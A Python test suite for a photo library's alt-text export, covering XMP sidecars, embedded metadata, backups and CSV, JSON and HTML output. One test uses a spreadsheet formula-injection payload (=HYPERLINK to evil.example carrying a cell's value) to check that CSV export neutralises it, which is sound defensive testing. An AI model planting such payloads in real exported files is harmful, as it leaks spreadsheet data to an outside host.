"""Alt text export: XMP sidecars and embedded fields read back by pyexiv2 and by exiftool,
photos otherwise untouched, a person's caption wins, read-only photos refused clearly."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from PIL import Image

from shashin import Library
from shashin.alttext import alt_text, shorten
from shashin.config import load_settings
from tests.conftest import run_cli

EXIFTOOL = shutil.which("exiftool")
needs_exiftool = pytest.mark.skipif(EXIFTOOL is None, reason="needs exiftool (apt install libimage-exiftool-perl)")
LONG = "An image of " + "a very long description of a park sign that tells people not to drop litter " * 3


@pytest.fixture
def library(tmp_path: Path, photo_copy: Path) -> Library:
    library = Library(settings=load_settings({"db": str(tmp_path / "db"), "channels": "ocr"}))
    library.index([photo_copy])
    captions = tmp_path / "generated.jsonl"
    rows = [
        {"path": "photos/park/no-litter.jpg", "text": LONG, "lang": "en"},
        {"path": "photos/park/no-litter.jpg", "text": "公園のポイ捨て禁止の看板。", "lang": "ja"},
        {"path": "photos/station/tokyo.jpg", "text": "A generated caption that a person will correct.", "lang": "en"},
    ]
    captions.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    library.import_captions(captions)
    library.set_caption(str(photo_copy / "station/tokyo.jpg"), "東京駅の青い駅名標", lang="ja")
    library.set_caption(str(photo_copy / "station/tokyo.jpg"), "The blue name board of Tokyo Station", lang="en")
    library.import_captions(captions)  # a later import must not replace the person's words
    return library


def exiftool(path: Path) -> dict[str, str]:
    assert EXIFTOOL
    result = subprocess.run(
        [EXIFTOOL, "-j", "-G1", "-XMP-iptcCore:all", "-XMP-dc:Description*", str(path)],
        capture_output=True,
        text=True,
        check=True,
    )
    return {k: v for k, v in json.loads(result.stdout)[0].items() if k != "SourceFile"}


def pixels(path: Path) -> str:
    with Image.open(path) as image:
        return hashlib.sha256(image.tobytes()).hexdigest()


def test_alt_text_is_short_and_without_preamble() -> None:
    assert shorten("x " * 100).endswith("…") and len(shorten("word " * 60)) <= 125
    assert (
        alt_text(
            [{"lang": "en", "prompt_set": "brief", "status": "done", "text": "An image of a red car."}], None, "f.jpg"
        )
        == "A red car."
    )
    assert (
        alt_text(
            [{"lang": "ja", "prompt_set": "brief", "status": "done", "text": "この画像は、赤い車です。"}],
            None,
            "f.jpg",
            "ja",
        )
        == "赤い車です。"
    )
    assert alt_text([], "NO\nEXIT", "f.jpg") == "Text in the photo: NO / EXIT"
    assert alt_text([], None, "f.jpg") == "f.jpg"


def test_a_persons_caption_wins(library: Library, photo_copy: Path) -> None:
    records = {Path(r.path).name: r for r in library.export.alt_text_records(["ja", "en"])}
    tokyo = records["tokyo.jpg"]
    assert tokyo.alt == {"ja": "東京駅の青い駅名標", "en": "The blue name board of Tokyo Station"} and tokyo.human
    litter = records["no-litter.jpg"]
    assert (
        len(litter.alt["en"]) <= 125
        and litter.alt["en"].startswith("A very long description")
        and litter.alt["en"].endswith("…")
    )
    assert litter.extended["ja"] == "写真の文字: NO LITTER / ポイ捨て禁止"
    # only OCR text: alt text from it, in every language
    assert records["card-game.png"].alt == {"ja": "写真の文字: CARD GAME", "en": "Text in the photo: CARD GAME"}


@needs_exiftool
def test_sidecars_read_back_by_exiftool_and_merge(library: Library, photo_copy: Path, tmp_path: Path) -> None:
    sidecar = photo_copy / "station/tokyo.xmp"
    import pyexiv2

    sidecar.write_text(
        '<?xpacket begin="\ufeff" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
        '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
    )
    with pyexiv2.Image(str(sidecar)) as existing:
        existing.modify_xmp({"Xmp.dc.creator": ["Alice"], "Xmp.xmp.Rating": "4"})
    before = {p: p.read_bytes() for p in photo_copy.rglob("*.*") if p.suffix != ".xmp"}
    result = run_cli("export", "alt-text", "--db", str(library.path), "--json", check=True)
    assert len(json.loads(result.stdout)["written"]) == 3
    fields = exiftool(sidecar)
    assert fields["XMP-iptcCore:AltTextAccessibility"] == "東京駅の青い駅名標"  # x-default = the first language
    assert fields["XMP-iptcCore:AltTextAccessibility-ja"] == "東京駅の青い駅名標"
    assert fields["XMP-iptcCore:AltTextAccessibility-en"] == "The blue name board of Tokyo Station"
    assert fields["XMP-dc:Description-en"] == "The blue name board of Tokyo Station"
    assert fields["XMP-iptcCore:ExtDescrAccessibility-en"] == "Text in the photo: 東京駅 / Tokyo Station"
    with pyexiv2.Image(str(sidecar)) as merged:
        xmp = merged.read_xmp()
    assert xmp["Xmp.dc.creator"] == ["Alice"] and xmp["Xmp.xmp.Rating"] == "4"  # what was there stays
    assert xmp["Xmp.iptc.AltTextAccessibility"]['lang="en"'] == "The blue name board of Tokyo Station"
    assert {p: p.read_bytes() for p in before} == before  # sidecars only: photos untouched
    out = tmp_path / "sidecars"
    run_cli("export", "alt-text", "--db", str(library.path), "--out", str(out), check=True)
    assert (
        exiftool(out / "photos/park/no-litter.xmp")["XMP-iptcCore:AltTextAccessibility-ja"]
        == "公園のポイ捨て禁止の看板。"
    )


@needs_exiftool
@pytest.mark.parametrize("name", ["station/tokyo.jpg", "games/card-game.png"])
def test_embedding_changes_nothing_but_the_fields(library: Library, photo_copy: Path, name: str) -> None:
    import pyexiv2

    photo = photo_copy / name
    original = photo.read_bytes()
    with pyexiv2.Image(str(photo)) as image:
        exif_before = image.read_exif()
    pixels_before = pixels(photo)
    record = next(r for r in library.export.alt_text_records(["ja", "en"]) if r.path == str(photo))
    done = library.export.embed(record)
    fields = exiftool(photo)
    for lang, text in record.alt.items():
        assert fields[f"XMP-iptcCore:AltTextAccessibility-{lang}"] == text
    assert fields["XMP-iptcCore:AltTextAccessibility"] == next(iter(record.alt.values()))
    assert pixels(photo) == pixels_before
    with pyexiv2.Image(str(photo)) as image:
        assert image.read_exif() == exif_before
    assert done.backup and Path(done.backup).read_bytes() == original and ".shashin-backup" in done.backup
    again = library.index()
    assert again.changed_files == 0 and again.new_photos == 0  # the library still knows the photo


@needs_exiftool
def test_every_embed_backs_up_the_bytes_it_replaces(library: Library, photo_copy: Path) -> None:
    photo = photo_copy / "station/tokyo.jpg"
    original = photo.read_bytes()
    first = library.export.embed(next(r for r in library.export.alt_text_records(["en"]) if r.path == str(photo)))
    assert Path(first.backup).read_bytes() == original
    # Another app edits the photo, then the caption is corrected and embedded again.
    subprocess.run([EXIFTOOL, "-q", "-overwrite_original", "-XMP:Rating=4", str(photo)], check=True)
    library.index()
    edited = photo.read_bytes()
    library.set_caption(str(photo), "The corrected name board of Tokyo Station")
    second = library.export.embed(next(r for r in library.export.alt_text_records(["en"]) if r.path == str(photo)))
    assert second.backup != first.backup
    assert Path(second.backup).read_bytes() == edited  # what this embed replaced
    assert Path(first.backup).read_bytes() == original  # the first original is still there
    embedded = photo.read_bytes()
    third = library.export.embed(next(r for r in library.export.alt_text_records(["en"]) if r.path == str(photo)))
    assert Path(third.backup).read_bytes() == embedded
    assert len(list((photo.parent / ".shashin-backup").iterdir())) == 3


@needs_exiftool
def test_a_trial_copy_left_by_a_killed_embed_is_removed_by_the_next(library: Library, photo_copy: Path) -> None:
    """kill -9 between writing the hidden full-size trial copy and moving it over the photo leaves
    the copy behind: before, no later export ever removed it."""
    import signal
    import sys

    photo = photo_copy / "station/tokyo.jpg"
    doomed = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
    stale = photo.with_name(f".{photo.name}.shashin-{doomed.pid}{photo.suffix}")
    shutil.copy2(photo, stale)  # what the killed embed had written
    doomed.send_signal(signal.SIGKILL)
    doomed.wait()
    living = photo.with_name(f".{photo.name}.shashin-{os.getpid()}{photo.suffix}.keep")  # a live process's: kept
    living.write_bytes(b"in use")
    result = run_cli("export", "alt-text", "--db", str(library.path), "--format", "embed", "--no-backup")
    assert result.returncode == 0, result.stderr
    assert not stale.exists() and living.exists()
    assert sorted(p.name for p in photo.parent.iterdir() if p.name.startswith(".")) == [living.name]


def test_read_only_photo_is_a_clear_error(library: Library, photo_copy: Path) -> None:
    photo = photo_copy / "station/tokyo.jpg"
    photo.chmod(0o444)
    try:
        original = photo.read_bytes()
        result = run_cli("export", "alt-text", "--db", str(library.path), "--format", "embed")
        assert result.returncode == 3
        assert f"{photo}: the file is read-only (mode -r--r--r--)" in result.stderr.replace("\n", "")
        assert photo.read_bytes() == original
    finally:
        photo.chmod(0o644)


def test_tables_and_snippets(library: Library, tmp_path: Path) -> None:
    csv_text = run_cli("export", "alt-text", "--db", str(library.path), "--format", "csv", check=True).stdout
    assert csv_text.splitlines()[0] == "path,photo_id,alt_ja,alt_en,extended_ja,extended_en,edited_by_a_person"
    document = json.loads(
        run_cli("export", "alt-text", "--db", str(library.path), "--format", "json", "--lang", "en", check=True).stdout
    )
    tokyo = next(r for r in document if r["path"].endswith("tokyo.jpg"))
    assert tokyo["alt_text"] == {"en": "The blue name board of Tokyo Station"} and tokyo["edited_by_a_person"] is True
    snippet = tmp_path / "alt.html"
    run_cli("export", "alt-text", "--db", str(library.path), "--format", "html", "--out", str(snippet), check=True)
    assert '<img src="file://' in snippet.read_text() and 'alt="東京駅の青い駅名標" lang="ja"' in snippet.read_text()


def test_csv_cells_cannot_run_as_spreadsheet_formulas(library: Library, photo_copy: Path) -> None:
    library.set_caption(str(photo_copy / "games/card-game.png"), '=HYPERLINK("http://evil.example/?"&A1,"click")')
    rows = list(
        __import__("csv").reader(
            __import__("io").StringIO(
                run_cli(
                    "export", "alt-text", "--db", str(library.path), "--format", "csv", "--lang", "en", check=True
                ).stdout
            )
        )
    )
    card = next(row for row in rows if row[0].endswith("card-game.png"))
    assert card[2].startswith("'=HYPERLINK")
    assert not any(cell[:1] in "=+-@" for row in rows for cell in row if cell)


def test_caption_set_command(library: Library, photo_copy: Path) -> None:
    result = run_cli(
        "caption",
        "set",
        str(photo_copy / "games/card-game.png"),
        "A poster for a card game night",
        "--lang",
        "en",
        "--db",
        str(library.path),
        check=True,
    )
    assert "set by you" in result.stdout
    found = library.search("poster night").results[0]
    assert found.path.endswith("card-game.png")
    bad = run_cli("caption", "set", "/nowhere.jpg", "x", "--db", str(library.path))
    assert bad.returncode == 1 and "not a photo of this library" in bad.stderr
    assert os.path.exists(photo_copy / "games/card-game.png")


def test_without_caption_or_text_the_alt_text_says_what_the_labels_model_is_sure_of() -> None:
    labels = [
        {"en": "Leonberger (dog, animal)", "ja": "犬・動物", "score": 0.85},
        {"en": "tabby cat (cat, animal)", "ja": "猫・動物", "score": 0.05},
    ]
    assert alt_text([], None, "IMG_1.jpg", "en", labels) == "Possibly a Leonberger (dog)"
    assert alt_text([], None, "IMG_1.jpg", "ja", labels) == "写っているもの（推定）: 犬"
    assert alt_text([], "NO LITTER", "IMG_1.jpg", "en", labels) == "Text in the photo: NO LITTER"  # text first
    unsure = [{"en": "acorn (plant)", "ja": "植物", "score": 0.12}]
    assert alt_text([], None, "IMG_1.jpg", "en", unsure) == "IMG_1.jpg"
